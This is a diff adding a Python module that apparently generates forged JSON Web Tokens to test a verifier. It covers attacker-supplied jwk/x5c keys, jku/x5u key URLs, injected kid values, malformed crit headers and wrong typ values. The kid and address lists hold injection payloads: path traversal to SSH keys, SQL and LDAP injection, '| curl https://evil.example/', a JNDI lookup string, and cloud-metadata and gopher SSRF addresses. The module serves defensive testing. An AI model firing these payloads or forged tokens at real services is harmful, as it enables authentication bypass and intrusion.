@@ -1,0 +1,234 @@
+"""Tokens whose header brings a key, points to one, or names one that it should not."""
+
+import hashlib
+import json
+from base64 import b64decode
+from collections.abc import Iterator
+from typing import Any
+
+from labkit.forging.corpus_confusion import certificate
+from labkit.forging.corpus_family import Made, families_in, family
+from labkit.forging.corpus_mint import Mint, b64, other
+
+PATHS = (
+    *("../../../../../../dev/null", "/dev/null", "/invalid_path", "..\\..\\..\\NUL", "NUL"),
+    *("file:///dev/null", "static/icon.svg", "../../../proc/sys/kernel/randomize_va_space"),
+    *("....//....//dev/null", "%2e%2e%2f%2e%2e%2fdev%2fnull", "/dev/null\0.pem", "~/.ssh/id_rsa"),
+)
+QUERIES = (
+    *("x' UNION SELECT 'k'--", "x' UNION SELECT '1';--", "' OR '1'='1", "june'--", "1; DROP TABLE"),
+    *('" OR ""="', "june' AND SLEEP(9)--", "*)(uid=*))(|(uid=*", "*", "%", "' || 'a'=='a"),
+)
+COMMANDS = (
+    *("|sleep 10", "| curl https://evil.example/", "june; sleep 9", "$(sleep 9)", "`sleep 9`"),
+    *("{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "%s%s%n", "__proto__", "constructor"),
+)
+ADDRESSES = (
+    *("https://evil.example/keys", "http://127.0.0.1:18901/keys", "//evil.example/keys"),
+    *("file:///dev/stdin", "data:application/json;base64,e30", "gopher://127.0.0.1:6379/_INFO"),
+    *("http://169.254.169.254/latest/meta-data/", "https://[::1]/keys", "keys.json", ""),
+)
+
+
+def _by_the_thief(mint: Mint, **members: object) -> str:
+    return mint.stolen(mint.header(**members))
+
+
+@family(
+    "key in the header", "T9", "T9b", matters="The token brings the key that it is checked with."
+)
+def key_in_header(mint: Mint) -> Iterator[Made]:
+    """A key of the forger's own, put into `jwk` or `x5c`."""
+    own = mint.thief if mint.thief.secret is None else other("ES256")
+    why = "A key that comes with the token is the sender's."
+    public = own.public
+    bare = {name: value for name, value in public.items() if name not in ("alg", "kid")}
+    secret = {"kty": "oct", "k": b64(b"k" * 32), "kid": mint.kid}
+    keys = {
+        "public": public,
+        "without a kid": bare,
+        "under the trusted kid": public | {"kid": mint.kid},
+        "in a key set": {"keys": [public]},
+        "as text": json.dumps(public),
+        "in a list": [public],
+    }
+    for name, jwk in keys.items():
+        header = mint.header(alg=own.alg, jwk=jwk)
+        yield f"jwk {name}", mint.signed(mint.message(header, mint.admin()), own), why
+    for name, jwk in {"null": None, "empty": {}, "true": True}.items():
+        yield f"jwk {name}", _by_the_thief(mint, jwk=jwk), why
+    yield "jwk is a secret", mint.maced(b"k" * 32, mint.header(alg="HS256", jwk=secret)), why
+    header = mint.header("kid", alg=own.alg, jwk=bare)
+    yield "jwk, and no kid", mint.signed(mint.message(header, mint.admin()), own), why
+    header = mint.header(alg=own.alg, jwks={"keys": [public]})
+    yield "jwks", mint.signed(mint.message(header, mint.admin()), own), why
+    yield from _certificates(mint)
+
+
+def _certificates(mint: Mint) -> Iterator[Made]:
+    own = mint.thief if mint.thief.secret is None else other("ES256")
+    made = certificate(own)
+    chain, der = [made.decode()], b64decode(made)
+    why = "Anyone can make a certificate for a key of their own."
+    members: dict[str, dict[str, Any]] = {
+        "x5c, self-signed": {"x5c": chain},
+        "x5c, twice the same": {"x5c": chain * 2},
+        "x5c, as text": {"x5c": chain[0]},
+        "x5c, base64url": {"x5c": [b64(der)]},
+        "x5c and its thumbprint": {"x5c": chain, "x5t#S256": b64(hashlib.sha256(der).digest())},
+        "x5c and jwk": {"x5c": chain, "jwk": own.public},
+        "x5c, and another kid": {"x5c": chain, "kid": "other"},
+    }
+    for name, changed in members.items():
+        message = mint.message(mint.header(**{"alg": own.alg, **changed}), mint.admin())
+        yield name, mint.signed(message, own), why
+    odd: dict[str, Any] = {"empty": [], "null": None, "garbage": ["MIIB"], "a number": 1}
+    for name, value in odd.items():
+        yield f"x5c {name}", _by_the_thief(mint, x5c=value), why
+    print_ = hashlib.sha1(der, usedforsecurity=False).digest()
+    yield "x5t of a certificate of one's own", _by_the_thief(mint, x5t=b64(print_)), why
+
+
+@family(
+    "key by address", "T10", "T10b", matters="The server fetches the sender's key, from anywhere."
+)
+def key_by_address(mint: Mint) -> Iterator[Made]:
+    """`jku` or `x5u` points to a key of the forger's own."""
+    host = mint.issuer.partition("://")[2] or mint.issuer
+    near = (
+        f"{mint.issuer}@evil.example/keys",
+        f"{mint.issuer}.evil.example/keys",
+        f"{mint.issuer}/go?to=https://evil.example/keys",
+        f"{mint.issuer}/../uploads/keys",
+        f"https://evil.example/#{host}",
+        f"https://evil.example\\@{host}/keys",
+        f"https://{host.upper()}:443/uploads/keys",
+    )
+    why = "The token must not say where its key is."
+    for address in (*ADDRESSES, *near):
+        yield f"jku {address!r}", _by_the_thief(mint, jku=address), why
+    for address in ("https://evil.example/cert.pem", "http://127.0.0.1:18901/cert.pem", *near[:3]):
+        yield f"x5u {address!r}", _by_the_thief(mint, x5u=address), why
+    for name, value in {"a list": [ADDRESSES[0]], "null": None, "a number": 1}.items():
+        yield f"jku {name}", _by_the_thief(mint, jku=value), why
+    token = _by_the_thief(mint, jku=ADDRESSES[0], kid=mint.thief.public["kid"])
+    yield "jku, and the thief's kid", token, why
+    yield "jku in the claims", mint.stolen(None, mint.admin(jku=ADDRESSES[0])), why
+
+
+@family("kid", "T11", "T12", matters="A name is used as a path, a query or a command.")
+def key_name(mint: Mint) -> Iterator[Made]:
+    """The name of a key leads to a key whose content the forger knows."""
+    known = "The key that this leads to is known to the forger."
+    for kid in PATHS:
+        yield f"kid {kid!r}", _known(mint, kid, b""), known
+    for kid in QUERIES:
+        yield f"kid {kid!r}", _known(mint, kid, b"k" if "'k'" in kid else b"1"), known
+    for kid in COMMANDS:
+        yield f"kid {kid!r}", _known(mint, kid, b""), "A name is no command."
+    near = (
+        *(mint.kid.upper(), f"{mint.kid} ", f"{mint.kid}\0", f"{mint.kid}\r\nX: 1", "0", "-1"),
+        *(mint.kid.replace("e", "\u0435"), mint.kid[:-1], "other", "https://evil.example/key", ""),
+    )
+    for kid in near:
+        if kid == mint.kid:
+            continue
+        yield f"kid {kid!r}", _by_the_thief(mint, kid=kid), "No trusted key has this name."
+    yield "kid of 200000 letters", _by_the_thief(mint, kid="k" * 200_000), "Too long."
+    yield from _odd_names(mint)
+
+
+def _known(mint: Mint, kid: str, secret: bytes) -> str:
+    return mint.maced(secret, mint.header(alg="HS256", kid=kid))
+
+
+def _odd_names(mint: Mint) -> Iterator[Made]:
+    why = "`kid` must be a string (RFC 7515 §4.1.4)."
+    odd: tuple[Any, ...] = (None, 0, 1, 1.5, True, [], [mint.kid], {}, {"$ne": ""}, {mint.kid: 1})
+    for kid in odd:
+        yield f"kid {json.dumps(kid)}", mint.token(mint.header(kid=kid)), why, True
+        yield f"kid {json.dumps(kid)}, by a thief", _by_the_thief(mint, kid=kid), why
+    other_name = mint.token(mint.header(kid="may"))
+    yield "kid of a withdrawn key", other_name, "No trusted key has this name.", True
+    yield "kid empty, signed", mint.token(mint.header(kid="")), "No key has an empty name.", True
+    long = mint.token(mint.header(kid="k" * 2_000))
+    yield "kid of 2000 letters, signed", long, "No trusted key has this name.", True
+    first = json.dumps(mint.header())
+    twice = f'{first[:-1]}, "kid": "other"}}'
+    yield "kid twice, the second unknown", mint.token(twice), "It has two readings.", True
+    evil = mint.thief.public["kid"]
+    forged = mint.stolen(f'{{"kid": {json.dumps(evil)}, {first[1:]}')
+    yield "kid twice, by a thief", forged, "It has two readings."
+
+
+@family(
+    "crit",
+    "T13",
+    matters="The issuer says what must be understood; whoever does not understand it goes on.",
+    signed=True,
+)
+def critical(mint: Mint) -> Iterator[Made]:
+    """`crit` names an extension that this service does not know, or is malformed."""
+    why = "What is critical and unknown must be refused (RFC 7515 §4.1.11)."
+    unknown: dict[str, dict[str, Any]] = {
+        "an unknown extension": {"crit": ["bound-to"], "bound-to": "device 7"},
+        "two, one unknown": {"crit": ["b64", "bound-to"], "b64": True, "bound-to": 1},
+        "an address": {"crit": ["https://a.example/x"], "https://a.example/x": True},
+        "a name of no letters": {"crit": [""], "": 1},
+        "fifty extensions": {
+            "crit": [f"x{n}" for n in range(50)],
+            **{f"x{n}": 1 for n in range(50)},
+        },
+        "b64 true": {"crit": ["b64"], "b64": True},
+        "b64 false, the payload encoded": {"crit": ["b64"], "b64": False},
+    }
+    for name, members in unknown.items():
+        yield f"crit: {name}", mint.token(mint.header(**members)), why
+    odd: tuple[Any, ...] = ([], None, True, 1, {}, "exp", "")
+    malformed: dict[str, dict[str, Any]] = {
+        **{json.dumps(value): {"crit": value} for value in odd},
+        "a name in a string": {"crit": "bound-to", "bound-to": 1},
+        "numbers": {"crit": [1]},
+        "lists": {"crit": [["bound-to"]], "bound-to": 1},
+        "null in a list": {"crit": [None]},
+        "a registered name": {"crit": ["alg"]},
+        "typ": {"crit": ["typ"]},
+        "exp of the claims": {"crit": ["exp"]},
+        "a name that is not there": {"crit": ["bound-to"]},
+        "a name twice": {"crit": ["bound-to", "bound-to"], "bound-to": 1},
+        "itself": {"crit": ["crit"]},
+    }
+    for name, members in malformed.items():
+        token = mint.token(mint.header(**members))
+        yield f"crit: {name}", token, "`crit` must list extensions that are there."
+    yield "b64 false, not critical", mint.token(mint.header(b64=False)), "RFC 7797 §6 forbids it."
+    bare = mint.header(crit=["b64"], b64=False)
+    raw = f"{b64(json.dumps(bare))}.{json.dumps(mint.claims()).replace('.', '')}"
+    yield "b64 false, the payload as it is", mint.signed(raw), why
+
+
+@family(
+    "type",
+    "T8",
+    matters="A refresh, identity or reset token opens what only an access token should.",
+    signed=True,
+)
+def token_type(mint: Mint) -> Iterator[Made]:
+    """The issuer's signature, on a token that is for something else."""
+    why = "It is no access token (RFC 9068 §4, RFC 8725 §3.11)."
+    kinds = (
+        *("JWT", "jwt", "rt+jwt", "id+jwt", "refresh+jwt", "logout+jwt", "reset+jwt", "dpop+jwt"),
+        *("secevent+jwt", "JOSE", "application/jwt", "application/rt+jwt", "access", "Bearer", ""),
+        *("at+jwt ", " at+jwt", "at+jwt\0", "at+jwt;a=b", "at+jwtx", "xat+jwt", "at", "at jwt"),
+        *("text/at+jwt", "application/application/at+jwt", "/at+jwt", "\u0430t+jwt", "at+\u0237wt"),
+    )
+    for kind in kinds:
+        yield f"typ {kind!r}", mint.token(mint.header(typ=kind)), why
+    for odd in (None, True, 1, [], ["at+jwt"], {"at+jwt": 1}):
+        yield f"typ {json.dumps(odd)}", mint.token(mint.header(typ=odd)), "`typ` is no string."
+    yield "no typ", mint.token(mint.header("typ")), why
+    yield "typ among the claims", mint.token(mint.header("typ"), mint.claims(typ="at+jwt")), why
+    yield "Typ for typ", mint.token(mint.header("typ", Typ="at+jwt")), why
+
+
+FAMILIES = families_in(globals())
